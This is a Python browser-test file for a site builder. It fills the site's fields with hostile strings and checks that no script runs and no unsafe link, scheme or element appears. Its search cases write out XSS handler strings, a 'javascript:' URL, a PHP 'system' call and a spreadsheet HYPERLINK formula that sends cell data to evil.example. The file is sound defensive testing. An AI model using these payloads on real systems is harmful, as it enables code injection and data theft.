"""A site with hostile strings in all its texts, in a real browser: no script runs, and no link is unsafe."""

from __future__ import annotations

import re
import shutil
from collections import deque
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from scripts.build.pipeline import build
from scripts.checks import check
from scripts.diagnostics import mistakes
from scripts.loading.dataset import read
from scripts.settings import Folders
from tests.browser.conftest import FOLDER, paths_of, served, watch
from tests.conftest import PUBLISHED, SMALL
from tests.security.attacks import EVERY
from tests.security.hostile_data import (
    CASE,
    Spot,
    at,
    complete_data,
    fields,
    is_free,
    positions,
    put,
    spots,
    write_files,
)

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("attacks-in-a-browser")]

SEARCHES = {
    "onpointerenter": "onpointerenter=alert(1)",
    "hashtag": "#hashtag",
    "javascript": "javascript:alert(1)",
    "system": "<?php system('id'); ?>",
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
    "temp": "C:\\temp\\ny",
}
"""Search words, and the string that each search must show as text."""

FOREIGN = """() => ({
  handlers: [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on'))),
  scripts: [...document.scripts].filter(e => e.type !== 'application/ld+json')
    .map(e => e.getAttribute('src') ?? e.textContent),
  schemes: [...new Set([...document.querySelectorAll('[href], [src], [action]')]
    .map(e => ['href', 'src', 'action'].map(name => e.getAttribute(name)).find(value => value !== null))
    .map(address => new URL(address, location).protocol))],
  elements: [...new Set([...document.body.querySelectorAll('*')].map(e => e.localName))],
})"""

OWN_SCRIPT = re.compile(r"^(?:[./]*|/ideslussar/)assets/js/(?:form/)?\w+\.js$")

DOWNLOAD_SCHEME = "blob:"
"""Scheme of the file that the form offers for download."""

FORBIDDEN = {"img", "iframe", "object", "embed", "style", "base", "meta", "link", "marquee", "math", "video"}
"""Elements that must not occur in the body of any page."""


@dataclass
class Walk:
    """The results of visiting all pages."""

    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    inspections: dict[str, Mapping[str, list[str]]] = field(default_factory=dict)
    text: str = ""


def spread(folder: Path) -> dict[Spot, str]:
    """Put every string that some field accepts in a field, and return the string of each field."""
    data = complete_data()
    waiting = deque(dict.fromkeys(map(str.strip, EVERY)))
    kept: dict[Spot, str] = {}
    # Texts in English are shown on a single page, which search leaves out.
    free = (pattern for pattern, leaf in fields().items() if is_free(leaf) and not str(pattern[-1]).endswith("_en"))
    left = [spot for pattern in free for spot in spots(data, pattern)]
    for _ in range(8):
        turn = {spot: waiting.popleft() for spot in left if waiting}
        for spot, text in turn.items():
            put(data, [spot], text)
        texts = write_files(data, folder)
        where = {(stem, *pos): spot for stem, text in texts.items() for spot, pos in positions(stem, text).items()}
        wrong = {where.get((Path(p.file).stem, p.line, p.column)) for p in mistakes(check(read(folder)))}
        for spot, text in turn.items():
            if spot in wrong:
                # A string that one field rejects may be accepted by another, such as a longer one.
                waiting.append(text)
                put(data, [spot], at(complete_data(), spot))
            else:
                kept[spot] = text
        left = [spot for spot in left if spot not in kept]
        waiting.rotate(7)
    data[CASE]["examples"] += [
        {"title": text, "outcome": "idea", "text": "Ett exempel som står här.", "sources": ["forskning"]}
        for text in SEARCHES.values()
    ]
    write_files(data, folder)
    return kept


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, dict[Spot, str]]]:
    """Yield the built site, its address, and the string of each field."""
    folder = tmp_path_factory.mktemp("hostile")
    cases = Path(shutil.copytree(SMALL, folder / "cases"))
    strings = spread(cases)
    build(Folders(cases, folder / "docs", folder / "site"), PUBLISHED)
    with served(folder / "site") as address:
        yield folder / "site", address, strings


@pytest.fixture(scope="module")
def walk(browser: Browser, hostile: tuple[Path, str, dict[Spot, str]]) -> Walk:
    """Visit every page once."""
    site, address, _ = hostile
    page = browser.new_page()
    results = Walk(errors=watch(page))

    def dismiss(dialog: Dialog) -> None:
        results.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    for path in paths_of(site):
        page.goto(address + path)
        results.inspections[path] = page.evaluate(FOREIGN)
        results.text += f" {page.title()} {page.locator('body').evaluate('e => e.textContent')}"
    page.close()
    return results


def test_many_strings_are_shown_on_the_site(hostile: tuple[Path, str, dict[Spot, str]], walk: Walk) -> None:
    # Some fields are not shown on any page, such as the English name of an area, or a retired record.
    shown = "".join(walk.text.split())
    assert len({text for text in hostile[2].values() if "".join(text.split()) in shown}) > 100


def test_nothing_runs(walk: Walk) -> None:
    assert (walk.dialogs, walk.errors) == ([], [])
    assert [path for path, inspection in walk.inspections.items() if inspection["handlers"]] == []


def test_no_page_has_foreign_scripts(walk: Walk) -> None:
    scripts = {script for page in walk.inspections.values() for script in page["scripts"]}
    assert {script for script in scripts if not OWN_SCRIPT.match(script)} == set()


def test_no_address_has_another_scheme(walk: Walk) -> None:
    assert {scheme for page in walk.inspections.values() for scheme in page["schemes"]} <= {
        "http:",
        "https:",
        "mailto:",
        DOWNLOAD_SCHEME,
    }


def test_no_page_has_an_element_that_no_template_contains(walk: Walk) -> None:
    assert {element for page in walk.inspections.values() for element in page["elements"]} & FORBIDDEN == set()


@pytest.mark.parametrize(("word", "text"), SEARCHES.items())
def test_search_shows_a_string_as_text(
    page: Page, hostile: tuple[Path, str, dict[Spot, str]], word: str, text: str
) -> None:
    dialog = page.get_by_role("dialog")
    page.goto(f"{hostile[1]}om/")
    page.keyboard.press("/")
    page.get_by_role("searchbox", name="Sök").fill(word)
    dialog.locator(".hit a").first.wait_for()
    assert "".join(text.split()) in "".join(dialog.inner_text().split())
    expect(dialog.locator("img, script, iframe, style, [onerror], [onload], [onclick]")).to_have_count(0)
    links = [str(link.get_attribute("href")) for link in dialog.locator("a").all()]
    assert [link for link in links if not link.startswith((FOLDER, hostile[1]))] == []
